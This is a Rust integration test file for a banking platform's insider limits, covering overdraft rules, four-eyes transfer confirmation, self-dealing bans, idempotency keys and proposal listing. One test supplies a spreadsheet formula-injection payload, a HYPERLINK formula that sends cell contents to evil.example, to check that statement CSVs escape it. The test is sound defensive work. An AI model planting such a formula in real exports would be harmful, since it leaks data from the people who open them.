//! Insider limits: what no single member of staff (or service) may do with a client's money.

mod common;

use common::start;
use imkon_auth::Role;
use imkon_platform::id::new_id;
use imkon_platform::testing::assert_problem;
use serde_json::json;
use sqlx::PgPool;

#[sqlx::test(migrations = false)]
async fn an_admin_cannot_open_an_overdraft_on_a_client_account(pool: PgPool) {
    let harness = start(pool).await;
    let client = new_id();

    let response = harness
        .post(
            "/v1/accounts",
            &harness.staff_token(Role::Admin),
            Some(&new_id().to_string()),
            &json!({"owner": {"kind": "client", "client_id": client}, "kind": "client_current",
                    "currency": "UZS", "allow_negative": true}),
        )
        .await;

    let problem = assert_problem(response, &[422], Some("validation_failed")).await;
    assert_eq!(problem["errors"][0]["field"], "allow_negative");
    assert_eq!(
        problem["errors"][0]["code"],
        "overdraft_for_bank_accounts_only"
    );
    let opened: i64 = sqlx::query_scalar("select count(*) from account where owner_client_id = $1")
        .bind(client)
        .fetch_one(&harness.pool)
        .await
        .unwrap();
    assert_eq!(opened, 0);
}

#[sqlx::test(migrations = false)]
async fn the_database_refuses_a_client_account_that_may_go_below_zero(pool: PgPool) {
    let harness = start(pool).await;
    let number = harness.open_client_current(new_id()).await;

    let refused = sqlx::query("update account set allow_negative = true where number = $1")
        .bind(&number)
        .execute(&harness.pool)
        .await;

    let error = refused.expect_err("the check constraint refuses it");
    assert!(
        error
            .to_string()
            .contains("account_overdraft_only_for_the_bank"),
        "{error}"
    );
}

#[sqlx::test(migrations = false)]
async fn a_statement_csv_shows_a_reference_that_starts_a_formula_as_text(pool: PgPool) {
    let harness = start(pool).await;
    let client_id = new_id();
    let settlement = harness.open_settlement().await;
    let account = harness.open_client_current(client_id).await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Refund\")";
    let mut transfer = common::two_legs(&settlement, &account, "5.00");
    transfer["reference"] = json!(formula);
    let paid = harness
        .post(
            "/v1/transfers",
            &harness.service_token(),
            Some(&new_id().to_string()),
            &transfer,
        )
        .await;
    assert_eq!(paid.status(), 201, "{}", paid.text().await.unwrap());

    let response = harness
        .get(
            &format!("/v1/accounts/{account}/statement.csv"),
            &harness.founder_token(client_id),
        )
        .await;

    assert_eq!(response.status(), 200);
    let body = response.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let references: Vec<String> = reader
        .records()
        .map(|row| row.unwrap()[3].to_owned())
        .collect();
    assert!(
        references.contains(&format!("'{formula}")),
        "the reference is text: {body}"
    );
    assert!(
        !references.iter().any(|cell| cell.starts_with('=')),
        "{body}"
    );
}

#[sqlx::test(migrations = false)]
async fn a_key_a_member_of_staff_used_first_does_not_claim_a_services_transfer(pool: PgPool) {
    let harness = start(pool).await;
    let settlement = harness.open_settlement().await;
    let founder = harness.open_client_current(new_id()).await;
    let decoy = harness.open_client_current(new_id()).await;
    // A key the disbursement service derives from a tranche: predictable to staff.
    let key = format!("tranche:{}:disburse", new_id());
    let staff = harness
        .post(
            "/v1/transfers",
            &harness.staff_token(Role::Finance),
            Some(&key),
            &common::two_legs(&settlement, &decoy, "1.00"),
        )
        .await;
    assert_eq!(staff.status(), 202, "{}", staff.text().await.unwrap());
    let proposal: serde_json::Value = staff.json().await.unwrap();
    let confirmed = harness
        .post(
            &format!(
                "/v1/transfer-proposals/{}/confirm",
                proposal["id"].as_str().unwrap()
            ),
            &harness.staff_token(Role::Admin),
            Some(&key),
            &json!({}),
        )
        .await;
    assert_eq!(
        confirmed.status(),
        201,
        "{}",
        confirmed.text().await.unwrap()
    );

    let service = harness
        .transfer(&key, &settlement, &founder, "100.00")
        .await;

    assert_eq!(
        service.status(),
        201,
        "the service's payout is booked: {}",
        service.text().await.unwrap()
    );
    let booked: i64 = sqlx::query_scalar(
        "select count(*) from entry e join account a on a.id = e.account_id where a.number = $1",
    )
    .bind(&founder)
    .fetch_one(&harness.pool)
    .await
    .unwrap();
    assert_eq!(booked, 1, "the founder was paid");
}

#[sqlx::test(migrations = false)]
async fn finance_staff_who_are_a_client_cannot_move_their_own_companys_money(pool: PgPool) {
    let harness = start(pool).await;
    let settlement = harness.open_settlement().await;
    let client_id = new_id();
    let own = harness.open_client_current(client_id).await;
    let insider = harness.token_for(
        &imkon_auth::Principal::user(new_id(), [Role::Finance], Some(client_id), None).unwrap(),
    );

    let response = harness
        .post(
            "/v1/transfers",
            &insider,
            Some(&new_id().to_string()),
            &common::two_legs(&settlement, &own, "1000.00"),
        )
        .await;

    assert_problem(response, &[403], Some("own_account")).await;
    assert_eq!(harness.account(&own).await["posted_balance"], "0.00");
}

/// A withdrawal of `amount` from a client's account to the bank's settlement account.
fn withdrawal(client: &str, settlement: &str, amount: &str) -> serde_json::Value {
    json!({
        "kind": "withdrawal",
        "reference": "cash out",
        "currency": "UZS",
        "legs": [
            {"account": client, "side": "debit", "amount": amount},
            {"account": settlement, "side": "credit", "amount": amount},
        ],
    })
}

/// Confirms proposal `id` as the holder of `token`, under a key never used before.
async fn confirm_with_fresh_key(
    harness: &common::Harness,
    id: &str,
    token: &str,
) -> reqwest::Response {
    harness
        .post(
            &format!("/v1/transfer-proposals/{id}/confirm"),
            token,
            Some(&new_id().to_string()),
            &json!({}),
        )
        .await
}

/// A funded client account, the settlement account, and a withdrawal of 400.00 proposed by
/// `proposer`: the proposal's id.
async fn proposed_withdrawal(
    harness: &common::Harness,
    proposer: &str,
) -> (String, String, String) {
    let settlement = harness.open_settlement().await;
    let client = harness.open_client_current(new_id()).await;
    harness.fund(&settlement, &client, "1000.00").await;
    let response = harness
        .post(
            "/v1/transfers",
            proposer,
            Some(&new_id().to_string()),
            &withdrawal(&client, &settlement, "400.00"),
        )
        .await;
    assert_eq!(response.status(), 202, "{}", response.text().await.unwrap());
    let proposal: serde_json::Value = response.json().await.unwrap();
    assert_eq!(proposal["status"], "pending", "{proposal}");
    let id = proposal["id"].as_str().unwrap().to_owned();
    (client, settlement, id)
}

#[sqlx::test(migrations = false)]
async fn one_finance_user_alone_cannot_move_a_clients_money(pool: PgPool) {
    let harness = start(pool).await;
    let finance = harness.staff_token(Role::Finance);

    let (client, _, _) = proposed_withdrawal(&harness, &finance).await;

    assert_eq!(harness.account(&client).await["posted_balance"], "1000.00");
    let pending = harness.get("/v1/transfer-proposals", &finance).await;
    assert_eq!(pending.status(), 200);
    let pending: serde_json::Value = pending.json().await.unwrap();
    assert_eq!(pending["items"].as_array().unwrap().len(), 1, "{pending}");
}

#[sqlx::test(migrations = false)]
async fn the_proposer_cannot_confirm_their_own_transfer(pool: PgPool) {
    let harness = start(pool).await;
    let finance = harness.staff_token(Role::Finance);
    let (client, _, id) = proposed_withdrawal(&harness, &finance).await;

    let response = confirm_with_fresh_key(&harness, &id, &finance).await;

    assert_problem(response, &[403], Some("four_eyes_violation")).await;
    assert_eq!(harness.account(&client).await["posted_balance"], "1000.00");
}

#[sqlx::test(migrations = false)]
async fn a_second_member_of_staff_confirms_and_the_money_moves_once(pool: PgPool) {
    let harness = start(pool).await;
    let (client, _, id) = proposed_withdrawal(&harness, &harness.staff_token(Role::Finance)).await;
    let admin = harness.staff_token(Role::Admin);
    let key = new_id().to_string();
    let path = format!("/v1/transfer-proposals/{id}/confirm");

    let confirmed = harness.post(&path, &admin, Some(&key), &json!({})).await;
    let retried = harness.post(&path, &admin, Some(&key), &json!({})).await;

    assert_eq!(
        confirmed.status(),
        201,
        "{}",
        confirmed.text().await.unwrap()
    );
    assert_eq!(retried.status(), 201, "{}", retried.text().await.unwrap());
    assert_eq!(retried.headers()["idempotent-replayed"], "true");
    assert_eq!(harness.account(&client).await["posted_balance"], "600.00");
    let audited: i64 = sqlx::query_scalar(
        "select count(*) from audit_record where action = 'transfer_proposal.confirmed'
         and before ->> 'proposed_by' is not null and subject_id = $1",
    )
    .bind(&id)
    .fetch_one(&harness.pool)
    .await
    .unwrap();
    assert_eq!(audited, 1, "the confirmation is audited with both people");
    let pending = harness.get("/v1/transfer-proposals", &admin).await;
    let pending: serde_json::Value = pending.json().await.unwrap();
    assert_eq!(pending["items"].as_array().unwrap().len(), 0, "{pending}");
    harness.assert_invariants().await;
}

#[sqlx::test(migrations = false)]
async fn staff_who_are_the_client_cannot_confirm_a_transfer_from_their_own_account(pool: PgPool) {
    let harness = start(pool).await;
    let settlement = harness.open_settlement().await;
    let client_id = new_id();
    let own = harness.open_client_current(client_id).await;
    harness.fund(&settlement, &own, "1000.00").await;
    let proposed = harness
        .post(
            "/v1/transfers",
            &harness.staff_token(Role::Finance),
            Some(&new_id().to_string()),
            &withdrawal(&own, &settlement, "400.00"),
        )
        .await;
    assert_eq!(proposed.status(), 202);
    let id = proposed.json::<serde_json::Value>().await.unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let insider = harness.token_for(
        &imkon_auth::Principal::user(new_id(), [Role::Admin], Some(client_id), None).unwrap(),
    );

    let response = confirm_with_fresh_key(&harness, &id, &insider).await;

    assert_problem(response, &[403], Some("own_account")).await;
    assert_eq!(harness.account(&own).await["posted_balance"], "1000.00");
}

#[sqlx::test(migrations = false)]
async fn the_database_refuses_a_proposal_confirmed_by_its_proposer(pool: PgPool) {
    let harness = start(pool).await;
    let (_, _, id) = proposed_withdrawal(&harness, &harness.staff_token(Role::Finance)).await;

    let refused = sqlx::query(
        "update transfer_proposal
         set confirmed_by = proposed_by, confirmed_at = now(), transfer_id = (select id from transfer limit 1)
         where id = $1::uuid",
    )
    .bind(&id)
    .execute(&harness.pool)
    .await;

    let error = refused.expect_err("the check constraint refuses it");
    assert!(
        error
            .to_string()
            .contains("transfer_proposal_confirmer_is_not_the_proposer"),
        "{error}"
    );
}

#[sqlx::test(migrations = false)]
async fn a_rejected_proposal_books_nothing_and_cannot_be_confirmed_later(pool: PgPool) {
    let harness = start(pool).await;
    let (client, _, id) = proposed_withdrawal(&harness, &harness.staff_token(Role::Finance)).await;
    let admin = harness.staff_token(Role::Admin);

    let rejected = harness
        .post(
            &format!("/v1/transfer-proposals/{id}/reject"),
            &admin,
            None,
            &json!({}),
        )
        .await;
    let confirmed = confirm_with_fresh_key(&harness, &id, &admin).await;

    assert_eq!(rejected.status(), 200, "{}", rejected.text().await.unwrap());
    assert_problem(confirmed, &[409], Some("proposal_already_settled")).await;
    assert_eq!(harness.account(&client).await["posted_balance"], "1000.00");
}

#[sqlx::test(migrations = false)]
async fn pending_proposals_are_listed_a_page_at_a_time_to_finance_and_admin_only(pool: PgPool) {
    let harness = start(pool).await;
    let finance = harness.staff_token(Role::Finance);
    for _ in 0..3 {
        proposed_withdrawal(&harness, &finance).await;
    }
    let admin = harness.staff_token(Role::Admin);

    let first = harness
        .get("/v1/transfer-proposals?limit=2", &admin)
        .await
        .json::<serde_json::Value>()
        .await
        .unwrap();
    let after = first["next_after"].as_str().expect("a second page");
    let second = harness
        .get(
            &format!("/v1/transfer-proposals?limit=2&after={after}"),
            &admin,
        )
        .await
        .json::<serde_json::Value>()
        .await
        .unwrap();
    let credit_officer = harness
        .get(
            "/v1/transfer-proposals",
            &harness.staff_token(Role::CreditOfficer),
        )
        .await;

    assert_eq!(first["items"].as_array().unwrap().len(), 2, "{first}");
    assert_eq!(second["items"].as_array().unwrap().len(), 1, "{second}");
    assert!(second["next_after"].is_null(), "{second}");
    assert_ne!(first["items"][0]["id"], second["items"][0]["id"]);
    assert_problem(credit_officer, &[403], Some("forbidden")).await;
}
